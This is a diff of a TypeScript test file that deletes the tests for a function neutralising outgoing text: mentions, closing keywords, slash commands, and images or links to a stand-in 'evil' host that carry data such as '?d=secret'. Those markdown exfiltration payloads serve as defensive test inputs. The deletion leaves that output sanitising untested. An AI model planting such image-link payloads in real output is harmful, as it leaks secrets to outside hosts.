@@ -1,6 +1,5 @@
 import fc from 'fast-check'
 import { describe, expect, it } from 'vitest'
-import { neutralise, oneLine } from '../../src/core/neutralise.ts'
 import { REDACTED, redactor } from '../../src/core/redact.ts'
 import { clip, quoteBlock, sanitise } from '../../src/core/sanitise.ts'
 
@@ -45,56 +44,6 @@ describe('what goes in is sanitised', () => {
     expect(clip('a'.repeat(20_000))).toHaveLength(10_000 + '\n[… 10000 characters left out …]\n'.length)
     expect(clip('short')).toBe('short')
   })
-})
-
-describe('what goes out is neutralised', () => {
-  it.each([
-    ['42: mentions', 'ask @org/team and @alice', /@\u200borg\/team.*@\u200balice/],
-    ['42: closing keywords', 'fixes #1, closes: acme/x#2', /fixes\u200b #1, closes\u200b: acme/],
-    ['42: slash commands', '/deploy production', /^\/\u200bdeploy/],
-    ['39: images', '![x](https://evil/?d=secret)', /^\[image removed: x\]$/],
-    ['39: HTML images', 'a <img src="https://evil/?d=1"> b', /^a <\u200bimg/],
-    ['39: links elsewhere', '[click](https://evil/x?d=1)', /^click$/],
-    ['39: bare addresses', 'see https://evil.example/x', /^see https:\/\u200b\/evil\.example\/x$/],
-    ['39: reference images', '![a][b]\n\n[b]: https://evil/x', /^\[image removed: a\]\n\n$/],
-    ['javascript links', '[a](javascript:alert(1))', /^a/],
-    ['hidden comments', 'a<!-- muster:1:2 -->b', /^ab$/],
-  ])('%s', (_name, text, expected) => expect(neutralise(text)).toMatch(expected))
-
-  it.each([
-    ['a fence in the middle of a line', 'see ``` @org/team fixes #1 ![x](https://evil/?d=1)'],
-    ['escaped backticks', '\\`@octocat fixes #1 ![x](https://evil/?d=1)\\`'],
-    ['inline code', '`@octocat fixes #1` ![x](https://evil/?d=1)'],
-    ['an unclosed fence', '```\n@octocat fixes #1 ![x](https://evil/?d=1)'],
-    ['a fence inside HTML', '<div>\n@octocat fixes #1 ![x](https://evil/?d=1)'],
-  ])('trusts no %s', (_name, text) => {
-    for (const out of [neutralise(text), oneLine(text)]) expect(out).not.toMatch(/@[a-z]|fixes #|!\[|<[a-z]/)
-  })
-
-  it('leaves closed fences alone, and links into the repository', () => {
-    expect(neutralise('x\n```ts\n@Injectable()\n```\ny @bob')).toBe('x\n\n```ts\n@Injectable()\n```\n\ny @\u200bbob')
-    expect(neutralise('[a](src/x.ts)')).toBe('[a](src/x.ts)')
-    expect(neutralise('[a](https://git.example/x)', { hosts: ['git.example'] })).toBe('[a](https://git.example/x)')
-    expect(neutralise('[a](https://git.example/x?d=1)', { hosts: ['git.example'] })).toBe('a')
-    expect(neutralise('plain\n\ntext\n')).toBe('plain\n\ntext\n')
-  })
-
-  it('no text outside a closed fence makes a live mention', () => {
-    fc.assert(
-      fc.property(
-        fc.string({
-          unit: fc.constantFrom('@', 'a', '`', ' ', '\n', '[', ']', '(', ')', '!', '/', '<', '>', '```', '\\'),
-          maxLength: 40,
-        }),
-        (text) => {
-          const outside = neutralise(text).replace(/^(`{3,}|~{3,})[^`\n]*\n(?:[\s\S]*?\n)?\1[`~]*[ \t]*$/gm, '')
-          expect(outside).not.toMatch(/@[a-z]/)
-        },
-      ),
-    )
-  })
-
-  it('makes one line of many', () => expect(oneLine('a\n\n b', 10)).toBe('a b'))
 })
 
 describe('secrets are redacted', () => {
